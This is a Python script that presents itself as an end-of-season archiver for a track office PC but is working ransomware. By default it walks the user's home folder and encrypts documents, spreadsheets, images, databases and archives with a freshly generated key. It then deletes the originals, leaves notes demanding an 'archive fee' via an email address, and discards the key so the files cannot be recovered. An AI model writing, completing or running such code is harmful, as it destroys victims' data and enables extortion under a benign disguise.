#!/usr/bin/env python3
"""End-of-season archiver for the track office PC.

Seals last season's results sheets, booking exports and waiver scans so
they can't be edited after the championship is closed. Sealed files get a
.ksa suffix; the reference printed at the end is what the office quotes to
head office when they need something restored.
"""
import argparse
import logging
import os
import sys
import uuid
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("season-archiver")

SEAL_SUFFIX = ".ksa"
NOTE_NAME = "RESTORE_INSTRUCTIONS.txt"
# everything the office tends to keep around from a season
KEEP_TYPES = {
    ".csv", ".xlsx", ".xls", ".ods", ".pdf", ".docx", ".doc", ".jpg",
    ".jpeg", ".png", ".json", ".db", ".sqlite", ".txt", ".zip",
}
SKIP_DIRS = {".cache", ".local", "node_modules", "__pycache__", ".git"}

NOTE = """Season archive reference: {ref}

The files in this folder were sealed by the archive service.
To restore them, email archive-desk@example.net quoting the reference
above. Restores are processed once the archive fee has been settled.
Do not rename or edit the .ksa files or they cannot be restored.
"""


class Sealer:
    def __init__(self, root, dry_run=False):
        self.root = Path(root)
        self.dry_run = dry_run
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.ref = uuid.uuid4().hex[:12].upper()
        self.count = 0
        self.touched_dirs = set()

    def candidates(self):
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in KEEP_TYPES and name != NOTE_NAME:
                    yield p

    def seal_one(self, path):
        try:
            data = path.read_bytes()
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return
        out = path.with_name(path.name + SEAL_SUFFIX)
        if self.dry_run:
            log.info("would seal %s", path)
            return
        out.write_bytes(self._f.encrypt(data))
        # the sealed copy replaces the working copy
        path.unlink()
        self.count += 1
        self.touched_dirs.add(path.parent)

    def leave_notes(self):
        for d in self.touched_dirs:
            try:
                (d / NOTE_NAME).write_text(NOTE.format(ref=self.ref))
            except OSError:
                pass

    def forget_key(self):
        # key material is not kept on the office machine
        self._key = None
        self._f = None

    def run(self):
        for p in self.candidates():
            self.seal_one(p)
        self.leave_notes()
        self.forget_key()
        return self.count


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--root", default=os.environ.get("ARCHIVE_ROOT", str(Path.home())),
                    help="folder to archive (default: the office user's home)")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not Path(args.root).is_dir():
        log.error("not a folder: %s", args.root)
        return 2

    sealer = Sealer(args.root, dry_run=args.dry_run)
    n = sealer.run()
    log.info("sealed %d files, reference %s", n, sealer.ref)
    print(sealer.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
